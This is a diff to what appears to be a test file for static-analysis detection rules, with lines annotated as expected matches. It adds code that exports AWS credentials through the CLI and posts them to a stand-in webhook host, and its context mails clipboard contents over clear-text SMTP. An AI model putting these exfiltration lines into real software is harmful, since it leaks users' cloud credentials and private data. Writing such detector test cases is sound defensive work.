@@ -506,3 +506,11 @@ note = EmailMessage()
 note.set_content(pyperclip.paste())
 # ruleid: surveillance-mail-or-socket, clear-text-protocol-client
 smtplib.SMTP("mail.example.net").send_message(note)
+# a method of the program's own class, called on an instance, read as its body
+import subprocess as _sp
+class _Deploy:
+    def identity(self):
+        return json.loads(_sp.run(["aws", "configure", "export-credentials"], capture_output=True).stdout)
+_deploy = _Deploy()
+# ruleid: secret-exfiltration, http-client
+requests.post("https://hooks.example.org/deploy", json=_deploy.identity(), timeout=5)
